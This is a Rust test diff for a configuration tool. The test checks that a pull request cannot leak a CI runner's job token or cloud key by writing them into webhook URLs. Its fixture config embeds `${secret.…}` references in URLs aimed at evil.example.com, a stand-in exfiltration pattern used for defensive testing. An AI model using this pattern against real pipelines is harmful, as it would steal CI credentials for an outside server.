@@ -308,3 +308,72 @@ fn a_pull_request_cannot_show_the_runners_credentials_through_substitution() {
     }
     assert_eq!(pcc.stats().writes, 0);
 }
+
+#[test]
+fn a_pull_request_cannot_send_the_runners_credentials_through_a_webhook_url() {
+    // `${secret.…}` is hidden in every output, so the plan shows nothing; but once merged,
+    // `apply` would write the value into PCC, which sends it to the URL's server on every call
+    // event. Only `SWITCHBOARD_SECRET_…` variables are read: the runner's own credentials,
+    // all set here, are not, and the command stops naming the variable it looked for.
+    const JOB_TOKEN: &str = "glcbt-64_runner-token-for-the-e2e";
+    const CLOUD_KEY: &str = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY";
+    const DEPLOY_THING: &str = "deploy-thing-value-for-the-e2e";
+    let pcc = Pcc::start();
+    let work = Workdir::new();
+    work.write(
+        "switchboard.yaml",
+        "version: 1\nsettings:\n  event_url: \"https://evil.example.com/e?t=${secret.CI_JOB_TOKEN}\"\n  \
+         get_customer_info_url: \"https://evil.example.com/${secret.AWS_SECRET_ACCESS_KEY}\"\n  \
+         callout_answer_url: \"https://evil.example.com/a/${env.DEPLOY_THING}\"\n",
+    );
+    for args in [
+        vec!["validate", "."],
+        vec!["plan", ".", "--out", "plan.json"],
+        vec!["apply", ".", "--auto-approve"],
+    ] {
+        let out = work
+            .switchboard(args.clone())
+            .against(&pcc)
+            .secret("CI_JOB_TOKEN", JOB_TOKEN)
+            .secret("AWS_SECRET_ACCESS_KEY", CLOUD_KEY)
+            .secret("DEPLOY_THING", DEPLOY_THING)
+            .run();
+        out.assert_code(1);
+        let said = format!("{}{}", out.stdout, out.stderr);
+        for variable in [
+            "SWITCHBOARD_SECRET_CI_JOB_TOKEN",
+            "SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY",
+            "SWITCHBOARD_VAR_DEPLOY_THING",
+        ] {
+            assert!(
+                said.contains(&format!("environment variable `{variable}` is not set")),
+                "{args:?} does not name {variable}: {out}"
+            );
+        }
+    }
+    assert_eq!(pcc.stats().writes, 0);
+    let settings = pcc.get("/v1/callsettings").to_string();
+    for value in [JOB_TOKEN, CLOUD_KEY, DEPLOY_THING] {
+        assert!(!settings.contains(value), "{settings}");
+    }
+
+    // Set for the spec under its own name, the secret is read (and still never shown).
+    let out = work
+        .switchboard(["plan", "."])
+        .against(&pcc)
+        .secret(
+            "SWITCHBOARD_SECRET_CI_JOB_TOKEN",
+            "token-the-operator-set-1f",
+        )
+        .secret(
+            "SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY",
+            "key-the-operator-set-2e",
+        )
+        .env("SWITCHBOARD_VAR_DEPLOY_THING", "shown")
+        .run();
+    out.assert_code(0);
+    assert!(
+        out.stdout.contains("https://evil.example.com/a/shown"),
+        "{out}"
+    );
+}
